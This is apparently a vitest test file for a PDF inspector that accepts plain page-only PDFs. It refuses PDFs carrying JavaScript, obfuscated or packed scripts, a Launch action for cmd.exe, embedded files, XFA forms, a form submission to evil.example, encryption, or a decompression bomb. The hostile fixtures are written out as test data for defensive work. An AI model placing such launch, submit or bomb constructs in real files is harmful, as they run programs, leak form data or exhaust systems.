import { deflateSync } from "node:zlib";
import { expect, test } from "vitest";
import { paperInspector } from "./inspect-pdf.ts";

const { inspect: inspectPdf, isPdf } = paperInspector;

const pdf = (...objects: string[]) =>
  Buffer.from(`%PDF-1.7\n${objects.join("\n")}\ntrailer<</Root 1 0 R>>\n%%EOF\n`, "latin1");
const page = "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]>>endobj";
/** Objects that are packed into a stream of their own kind, as most writers do. */
const packed = (objects: string, filter = "/FlateDecode") =>
  `5 0 obj<</Type/ObjStm/N 1/First 4/Filter${filter}>>stream\n${deflateSync(Buffer.from(objects)).toString("latin1")}\nendstream endobj`;
const script = "7 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj";

test("a PDF that only shows pages is taken, packed or not", () => {
  expect(inspectPdf(pdf(page))).toMatchObject({ ok: true });
  expect(inspectPdf(pdf(page, packed("6 0 <</Type/Font/BaseFont/Figtree>>")))).toMatchObject({
    ok: true,
  });
});

test.each([
  ["a script", script],
  ["a script whose name is written in other signs", script.replace("JavaScript", "Java#53cript")],
  ["a script that is packed", packed(script)],
  ["a program that is started", "7 0 obj<</S/Launch/F(cmd.exe)>>endobj"],
  ["a file inside it", "7 0 obj<</Names<</EmbeddedFiles 8 0 R>>>>endobj"],
  ["a form that runs", packed("7 0 <</AcroForm<</XFA 8 0 R>>>>")],
  ["a form that is sent away", "7 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj"],
  ["a script in what says that it is a picture", `8 0 obj<<>>stream\n${script}\nendstream endobj`],
])("%s is refused", (_, object) => {
  expect(inspectPdf(pdf(page, object))).toEqual({ ok: false, why: "active" });
});

test("what is locked, cut short or packed in an unknown way is refused", () => {
  expect(inspectPdf(pdf(page, "9 0 obj<</Encrypt 3 0 R>>endobj"))).toEqual({
    ok: false,
    why: "locked",
  });
  expect(inspectPdf(pdf(page).subarray(0, 60))).toEqual({ ok: false, why: "unreadable" });
  expect(inspectPdf(pdf(page, packed("6 0 <<>>", "/LZWDecode")))).toEqual({
    ok: false,
    why: "unreadable",
  });
  const bomb = packed(" ".repeat(9 * 1_024 * 1_024));
  expect(inspectPdf(pdf(page, bomb))).toEqual({ ok: false, why: "unreadable" });
});

test("a file is a PDF by its bytes, whatever it is called", () => {
  expect(isPdf(pdf(page))).toBe(true);
  expect(isPdf(Buffer.from("<html>report.pdf</html>"))).toBe(false);
});
